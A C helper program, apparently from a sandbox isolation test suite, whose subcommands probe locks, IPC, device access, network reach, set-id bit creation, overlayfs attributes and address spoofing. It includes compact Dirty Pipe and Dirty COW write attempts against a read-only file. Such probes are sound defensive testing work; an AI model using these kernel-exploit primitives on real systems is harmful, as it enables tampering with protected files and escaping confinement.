/* Small acts for the cases about isolation: `attack_isolation ACT ARGUMENTS`. Each prints what it found, one line a thing,
 * errors by their names. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <mqueue.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/inotify.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/msg.h>
#include <sys/resource.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <stdbool.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

static const char *name_of(long result) {
    return result >= 0 ? "OK" : strerrorname_np(errno);
}

static int ids(char **argv) {
    (void)argv;
    uid_t real, effective, saved;
    getresuid(&real, &effective, &saved);
    printf("%u %u %u %u\n", real, effective, saved, getegid());
    return 0;
}

/* open PATH... */
static int open_all(char **argv) {
    for (; *argv; argv++) {
        int fd = open(*argv, O_RDWR | O_NONBLOCK | O_CLOEXEC);
        struct stat status = {0};
        printf("%s %s", *argv, name_of(fd));
        if (fd >= 0 && fstat(fd, &status) == 0 && S_ISCHR(status.st_mode))
            printf(" %u:%u", major(status.st_rdev), minor(status.st_rdev));
        printf("\n");
    }
    return 0;
}

/* hold NAME PATH...: takes every lock there is on the files and every shared thing called NAME, says "held", waits */
static int hold(char **argv) {
    const char *name = *argv++;
    for (; *argv; argv++) {
        int fd = open(*argv, O_RDONLY | O_CLOEXEC), writable = open(*argv, O_RDWR | O_CLOEXEC);
        int number = writable >= 0 ? writable : fd;
        struct flock lock = {.l_type = writable >= 0 ? F_WRLCK : F_RDLCK};
        printf("%s flock %s, ", *argv, name_of(flock(fd, LOCK_EX)));
        printf("fcntl %s\n", name_of(fcntl(number, F_SETLK, &lock)));
    }
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    snprintf(address.sun_path + 1, sizeof address.sun_path - 1, "%s", name);
    socklen_t length = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name));
    int listener = socket(AF_UNIX, SOCK_STREAM, 0);
    printf("abstract %s\n", name_of(bind(listener, (struct sockaddr *)&address, length) | listen(listener, 1)));
    struct sockaddr_in port = {
        .sin_family = AF_INET, .sin_port = htons(45678), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    int tcp = socket(AF_INET, SOCK_STREAM, 0);
    printf("port %s\n", name_of(bind(tcp, (struct sockaddr *)&port, sizeof port) | listen(tcp, 1)));
    key_t key = (key_t)strtol(name + 1, NULL, 10);
    printf("shm %s\n", name_of(shmget(key, 4096, IPC_CREAT | 0666)));
    printf("sem %s\n", name_of(semget(key, 1, IPC_CREAT | 0666)));
    printf("msg %s\n", name_of(msgget(key, IPC_CREAT | 0666)));
    char path[64];
    snprintf(path, sizeof path, "/%s", name);
    printf("mq %s\n", name_of(mq_open(path, O_CREAT | O_RDWR, 0666, NULL)));
    printf("posix-shm %s\n", name_of(shm_open(path, O_CREAT | O_RDWR, 0666)));
    snprintf(path, sizeof path, "/tmp/%s", name);
    printf("tmp %s\n", name_of(open(path, O_CREAT | O_RDWR, 0666)));
    printf("held\n");
    fflush(stdout);
    pause();
    return 0;
}

/* probe NAME PATH...: the same from another box: what of it is there */
static int probe(char **argv) {
    const char *name = *argv++;
    for (; *argv; argv++) {
        int fd = open(*argv, O_RDONLY | O_CLOEXEC);
        struct flock lock = {.l_type = F_WRLCK};
        printf("%s flock %s, ", *argv, name_of(flock(fd, LOCK_EX | LOCK_NB)));
        fcntl(fd, F_GETLK, &lock);
        printf("fcntl %s\n", lock.l_type == F_UNLCK ? "free" : "taken");
    }
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    snprintf(address.sun_path + 1, sizeof address.sun_path - 1, "%s", name);
    socklen_t length = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name));
    printf("abstract %s\n", name_of(connect(socket(AF_UNIX, SOCK_STREAM, 0), (struct sockaddr *)&address, length)));
    struct sockaddr_in port = {
        .sin_family = AF_INET, .sin_port = htons(45678), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    printf("port %s\n", name_of(connect(socket(AF_INET, SOCK_STREAM, 0), (struct sockaddr *)&port, sizeof port)));
    key_t key = (key_t)strtol(name + 1, NULL, 10);
    printf("shm %s\n", name_of(shmget(key, 0, 0)));
    printf("sem %s\n", name_of(semget(key, 0, 0)));
    printf("msg %s\n", name_of(msgget(key, 0)));
    char path[64];
    snprintf(path, sizeof path, "/%s", name);
    printf("mq %s\n", name_of(mq_open(path, O_RDWR)));
    printf("posix-shm %s\n", name_of(shm_open(path, O_RDWR, 0)));
    snprintf(path, sizeof path, "/tmp/%s", name);
    printf("tmp %s\n", name_of(open(path, O_RDWR)));
    return 0;
}

/* watch PATH...: says "watching", then names what is touched; "touched MARK" ends it */
static int watch(char **argv) {
    int fd = inotify_init1(IN_CLOEXEC);
    int last = -1;
    for (; *argv; argv++) {
        last = inotify_add_watch(fd, *argv, IN_OPEN | IN_ACCESS | IN_MODIFY | IN_ATTRIB | IN_CLOSE);
        printf("%s %s\n", *argv, name_of(last));
    }
    printf("watching\n");
    fflush(stdout);
    for (;;) {
        union {
            struct inotify_event head;
            char bytes[4096];
        } events;
        ssize_t n = read(fd, &events, sizeof events);
        for (char *at = events.bytes; at < events.bytes + n;) {
            struct inotify_event *event = (struct inotify_event *)(void *)at;
            printf("touched %d %x\n", event->wd, event->mask);
            fflush(stdout);
            if (event->wd == last)
                return 0;
            at += sizeof *event + event->len;
        }
    }
}

/* splice PATH: Dirty Pipe's way, bytes of a file one may only read, written over in the pipe */
static int dirty_pipe(char **argv) {
    static char filler[65536];
    int fd = open(*argv, O_RDONLY | O_CLOEXEC), pair[2];
    if (fd < 0 || pipe(pair) < 0)
        return 1;
    for (int i = 0; i < 16; i++) /* every buffer of the pipe once: flags that stay are what the bug was */
        if (write(pair[1], filler, 4096) != 4096)
            return 1;
    for (int i = 0; i < 16; i++)
        if (read(pair[0], filler, 4096) != 4096)
            return 1;
    loff_t offset = 1;
    printf("splice %s\n", name_of(splice(fd, &offset, pair[1], NULL, 1, 0)));
    printf("write %s\n", name_of(write(pair[1], "HACKED", 6)));
    struct iovec memory = {filler, 4096};
    printf("vmsplice %s\n", name_of(vmsplice(pair[1], &memory, 1, 0)));
    /* Dirty COW's way: a private mapping written through /proc/self/mem while it is thrown away */
    char *map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
    int mem = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
    for (int i = 0; i < 2000; i++) {
        if (pwrite(mem, "HACKED", 6, (off_t)(size_t)map) < 0)
            break;
        madvise(map, 4096, MADV_DONTNEED);
    }
    printf("shared mapping %s\n",
           mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0) == MAP_FAILED ? strerrorname_np(errno) : "OK");
    printf("open for writing %s\n", name_of(open(*argv, O_WRONLY | O_CLOEXEC)));
    return 0;
}

/* set-id DIR: every way to make a file there with the bits; the answer and the mode that came of it */
static void set_id_row(const char *what, long result, const char *path) {
    const char *answer = name_of(result);
    struct stat status = {0};
    stat(path, &status);
    printf("%s %s %o\n", what, answer, status.st_mode & 06000);
}
static int set_id(char **argv) {
    struct {
        unsigned long flags, mode, resolve;
    } how = {O_CREAT | O_WRONLY, 04755, 0};
    if (chdir(*argv) < 0)
        return 1;
    umask(0);
    int fd = open("f", O_CREAT | O_WRONLY | O_CLOEXEC, 0755);
    set_id_row("chmod", syscall(SYS_chmod, "f", 04755), "f");
    set_id_row("chmod-gid", syscall(SYS_chmod, "f", 02755), "f");
    set_id_row("fchmod", syscall(SYS_fchmod, fd, 06755), "f");
    set_id_row("fchmodat", syscall(SYS_fchmodat, AT_FDCWD, "f", 04755), "f");
    set_id_row("fchmodat2", syscall(452, AT_FDCWD, "f", 04755, 0), "f");
    set_id_row("open", syscall(SYS_open, "o", O_CREAT | O_WRONLY, 04755), "o");
    set_id_row("openat", syscall(SYS_openat, AT_FDCWD, "p", O_CREAT | O_WRONLY, 02755), "p");
    int temporary = (int)syscall(SYS_openat, AT_FDCWD, ".", O_TMPFILE | O_WRONLY, 04755);
    set_id_row("tmpfile", temporary, "q");
    set_id_row("openat2", syscall(SYS_openat2, AT_FDCWD, "r", &how, sizeof how), "r");
    set_id_row("creat", syscall(SYS_creat, "c", 04755), "c");
    set_id_row("mknod", syscall(SYS_mknod, "n", S_IFREG | 04755, 0), "n");
    set_id_row("mknodat", syscall(SYS_mknodat, AT_FDCWD, "m", S_IFREG | 04755, 0), "m");
    set_id_row("mkdir", mkdir("d", 06755), "d");
    set_id_row("high-bits", syscall(SYS_chmod, "f", 0xffff000000000000ul | 04755), "f");
    set_id_row("plain", syscall(SYS_chmod, "f", 0700), "f");
    set_id_row("garbage-mode", syscall(SYS_openat, AT_FDCWD, "f", O_RDONLY, 07777), "f");
    return 0;
}

/* xattr PATH: overlayfs's own attributes, written from inside */
static int overlay_names(char **argv) {
    static const char *const names[] = {
        "trusted.overlay.opaque", "trusted.overlay.redirect", "trusted.overlay.metacopy", "user.overlay.opaque",
        "user.overlay.redirect",  "user.overlay.metacopy",    "user.overlay.whiteout",    "user.plain"};
    for (size_t i = 0; i < sizeof names / sizeof *names; i++)
        printf("%s %s\n", names[i], name_of(setxattr(*argv, names[i], "y", 1, 0)));
    return 0;
}

/* core: dies of SIGSEGV, in a child; prints whether a core was made */
static int core(char **argv) {
    (void)argv;
    struct rlimit limit;
    getrlimit(RLIMIT_CORE, &limit);
    pid_t pid = fork();
    if (pid == 0) {
        signal(SIGSEGV, SIG_DFL);
        raise(SIGSEGV);
        _exit(0);
    }
    int status;
    waitpid(pid, &status, 0);
    printf("limit %lu %lu signal %d core %d\n", (unsigned long)limit.rlim_cur, (unsigned long)limit.rlim_max,
           WTERMSIG(status), WCOREDUMP(status) ? 1 : 0);
    return 0;
}

/* connect ADDRESS PORT: "OK" or the error, within 3 s; udp: an answer to a datagram, or none */
static int connect_to(char **argv) {
    struct sockaddr_in6 to6 = {.sin6_family = AF_INET6, .sin6_port = htons((uint16_t)strtoul(argv[1], NULL, 10))};
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = to6.sin6_port};
    bool six = strchr(argv[0], ':') != NULL;
    if (inet_pton(six ? AF_INET6 : AF_INET, argv[0], six ? (void *)&to6.sin6_addr : &to.sin_addr) != 1)
        return 1;
    bool udp = argv[2] && strcmp(argv[2], "udp") == 0;
    int fd = socket(six ? AF_INET6 : AF_INET, (udp ? SOCK_DGRAM : SOCK_STREAM) | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    long result = connect(fd, six ? (struct sockaddr *)&to6 : (struct sockaddr *)&to, six ? sizeof to6 : sizeof to);
    if (result < 0 && errno != EINPROGRESS)
        return printf("%s %s\n", argv[0], name_of(-1)) < 0;
    if (udp && send(fd, "x", 1, 0) < 0)
        return printf("%s %s\n", argv[0], name_of(-1)) < 0;
    struct pollfd polls = {.fd = fd, .events = udp ? POLLIN : POLLOUT};
    int ready = poll(&polls, 1, 3000), number = ETIMEDOUT;
    socklen_t size = sizeof number;
    if (ready > 0)
        getsockopt(fd, SOL_SOCKET, SO_ERROR, &number, &size);
    errno = number;
    return printf("%s %s\n", argv[0], number ? strerrorname_np(number) : "OK") < 0;
}

/* spoof ADDRESS TO: binds an address that is not the box's and sends from it */
static int spoof(char **argv) {
    struct sockaddr_in from = {.sin_family = AF_INET}, to = {.sin_family = AF_INET, .sin_port = htons(53)};
    int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), on = 1;
    inet_pton(AF_INET, argv[0], &from.sin_addr);
    inet_pton(AF_INET, argv[1], &to.sin_addr);
    printf("transparent %s\n", name_of(setsockopt(fd, IPPROTO_IP, IP_TRANSPARENT, &on, sizeof on)));
    printf("freebind %s\n", name_of(setsockopt(fd, IPPROTO_IP, IP_FREEBIND, &on, sizeof on)));
    printf("bind %s\n", name_of(bind(fd, (struct sockaddr *)&from, sizeof from)));
    printf("send %s\n", name_of(sendto(fd, "x", 1, 0, (struct sockaddr *)&to, sizeof to)));
    return 0;
}

int main(int argc, char **argv) {
    static const struct {
        const char *name;
        int (*run)(char **argv);
        int arguments;
    } acts[] = {
        {"ids", ids, 0},     {"open", open_all, 1},         {"hold", hold, 1},     {"probe", probe, 1},
        {"watch", watch, 1}, {"dirty-pipe", dirty_pipe, 1}, {"set-id", set_id, 1}, {"overlay-names", overlay_names, 1},
        {"core", core, 0},   {"connect", connect_to, 2},    {"spoof", spoof, 2}};
    for (size_t i = 0; i < sizeof acts / sizeof *acts; i++)
        if (argc >= 2 + acts[i].arguments && strcmp(argv[1], acts[i].name) == 0)
            return acts[i].run(argv + 2);
    return 2;
}
